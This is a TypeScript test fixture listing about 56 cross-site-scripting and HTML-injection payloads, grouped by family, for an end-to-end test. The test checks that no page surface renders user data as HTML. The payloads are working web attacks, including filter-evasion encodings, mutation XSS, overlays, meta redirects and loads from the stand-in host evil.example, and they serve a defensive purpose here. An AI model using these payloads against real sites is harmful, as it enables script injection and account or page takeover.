/**
 * Hostile strings for the end-to-end hostile-input run: markup that would run script, navigate,
 * load from elsewhere or cover the page if any surface treated data as HTML. Every payload that
 * could run sets `__pwned` on its window (or its parent's, from a frame) and calls `alert`, so the
 * test can tell from the outside whether anything ran. `evil.example` is the only host payloads
 * point at: a request to it means something was loaded that should not have been.
 */

export type PayloadFamily =
  | 'script'
  | 'event handler'
  | 'url'
  | 'css'
  | 'svg'
  | 'frame, meta, form, base'
  | 'mutation'
  | 'template'
  | 'unicode'
  | 'long';

export type Payload = { id: string; family: PayloadFamily; text: string };

/** The host every payload that loads something points at. */
export const EVIL_HOST = 'evil.example';

const RUN = "window.__pwned=true;alert('pwned')";
const FROM_FRAME = "parent.__pwned=true;top.__pwned=true;alert('pwned')";

/** Single-line text columns and subjects hold 255 characters; every payload fits, so none is cut. */
export const MAX_PAYLOAD_LENGTH = 255;

const payloads: ReadonlyArray<Omit<Payload, 'id'>> = [
  { family: 'script', text: `<script>${RUN}</script>` },
  { family: 'script', text: `<SCRIPT SRC=https://${EVIL_HOST}/x.js></SCRIPT>` },
  { family: 'script', text: `"><script>${RUN}</script>` },
  { family: 'script', text: `'';!--"<XSS>=&{()}<script>${RUN}</script>` },
  { family: 'script', text: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { family: 'event handler', text: `<img src=x onerror="${RUN}">` },
  { family: 'event handler', text: `<svg onload="${RUN}">` },
  { family: 'event handler', text: `<body onload="${RUN}">` },
  { family: 'event handler', text: `<details open ontoggle="${RUN}">Toggle</details>` },
  { family: 'event handler', text: `<div onmouseover="${RUN}" onclick="${RUN}">Hover or click</div>` },
  { family: 'event handler', text: `<input autofocus onfocus="${RUN}">` },
  { family: 'event handler', text: `<video><source onerror="${RUN}"></video>` },
  { family: 'event handler', text: `<marquee onstart="${RUN}">Scrolling</marquee>` },
  { family: 'event handler', text: `<img src=x:alert(1) oNeRrOr=${RUN.replace(/'/g, '')}>` },
  { family: 'url', text: `<a href="javascript:${RUN}">Open the draft</a>` },
  { family: 'url', text: `<a href="JaVaScRiPt:${RUN}">Mixed case</a>` },
  {
    family: 'url',
    text: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">Entity encoded</a>`,
  },
  { family: 'url', text: `<a href="&#x6A;avascript&colon;${RUN}">Hex and named entities</a>` },
  { family: 'url', text: `<a href="java\tscript:${RUN}">With a tab</a>` },
  { family: 'url', text: `<a href="java\nscript:${RUN}">With a new line</a>` },
  { family: 'url', text: `<a href=" \u0001javascript:${RUN}">Control character first</a>` },
  {
    family: 'url',
    text: '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD10cnVlPC9zY3JpcHQ+">Data link</a>',
  },
  { family: 'url', text: `<a href="vbscript:msgbox(1)">VBScript</a>` },
  { family: 'url', text: `<map name=m><area shape=rect coords=0,0,500,500 href="javascript:${RUN}"></map>` },
  { family: 'url', text: `<a href="https://${EVIL_HOST}/" target="_top">Replace the page</a>` },
  { family: 'css', text: '<style>body{display:none!important}*{visibility:hidden!important}</style>' },
  {
    family: 'css',
    text: '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">Overlay</div>',
  },
  { family: 'css', text: `<div style="width:expression(${RUN})">Expression</div>` },
  { family: 'css', text: `<div style="background:url(javascript:${RUN})">URL in CSS</div>` },
  { family: 'css', text: `<link rel=stylesheet href="https://${EVIL_HOST}/hide.css">` },
  { family: 'css', text: `<style>@import 'https://${EVIL_HOST}/hide.css';</style>` },
  {
    family: 'css',
    text: `<table background="https://${EVIL_HOST}/track.png"><tr><td>Cell</td></tr></table>`,
  },
  { family: 'svg', text: `<svg><script>${RUN}</script></svg>` },
  {
    family: 'svg',
    text: `<svg><a xlink:href="javascript:${RUN}"><text x="0" y="20">Click</text></a></svg>`,
  },
  {
    family: 'svg',
    text: `<svg><foreignObject><iframe srcdoc="<script>${FROM_FRAME}</script>"></iframe></foreignObject></svg>`,
  },
  { family: 'svg', text: `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>` },
  { family: 'svg', text: `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>` },
  {
    family: 'frame, meta, form, base',
    text: `<iframe srcdoc="<script>${FROM_FRAME}</script>"></iframe>`,
  },
  { family: 'frame, meta, form, base', text: `<iframe src="javascript:${FROM_FRAME}"></iframe>` },
  {
    family: 'frame, meta, form, base',
    text: `<object data="data:text/html,<script>${FROM_FRAME}</script>"></object>`,
  },
  { family: 'frame, meta, form, base', text: `<embed src="https://${EVIL_HOST}/x.swf">` },
  {
    family: 'frame, meta, form, base',
    text: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  },
  {
    family: 'frame, meta, form, base',
    text: `<meta http-equiv="refresh" content="0;url=https://${EVIL_HOST}/">`,
  },
  {
    family: 'frame, meta, form, base',
    text: `<form action="javascript:${RUN}"><input name="q" value="x"><button>Send</button></form>`,
  },
  { family: 'frame, meta, form, base', text: `<button formaction="javascript:${RUN}">Go</button>` },
  {
    family: 'frame, meta, form, base',
    text: `<base href="https://${EVIL_HOST}/"><a href="/agenda">Relative</a>`,
  },
  {
    family: 'mutation',
    text: `<noscript><p title="</noscript><img src=x onerror=${RUN.replace(/'/g, '')}>">`,
  },
  { family: 'mutation', text: `<!--<img src="--><img src=x onerror=${RUN.replace(/'/g, '')}//">` },
  {
    family: 'mutation',
    text: `<math><mtext><table><mglyph><style><img src=x onerror=${RUN.replace(/'/g, '')}>`,
  },
  { family: 'mutation', text: `<textarea><img src=x onerror="${RUN}"></textarea>` },
  { family: 'template', text: "{{constructor.constructor('window.__pwned=true')()}}" },
  { family: 'template', text: '${window.__pwned=true}' },
  { family: 'template', text: '<%= 7*7 %> #{7*7} {{7*7}} [[7*7]]' },
  { family: 'unicode', text: 'Budget review \u202Efdp.exe\u202C and \u202Dleft\u202C to right' },
  { family: 'unicode', text: 'Zero\u200Bwidth\u200Cjoiners\u200D and a BOM \uFEFF in a name' },
  { family: 'long', text: 'W'.repeat(MAX_PAYLOAD_LENGTH) },
];

/** The corpus, each payload with a stable id (`P01`…) the test reports by. */
export const PAYLOADS: readonly Payload[] = payloads.map((p, i) => ({
  ...p,
  id: `P${String(i + 1).padStart(2, '0')}`,
}));

/** A string past any single-line limit and without a break opportunity, for bodies and notes. */
export const LONG_UNBROKEN = 'W'.repeat(20_000);
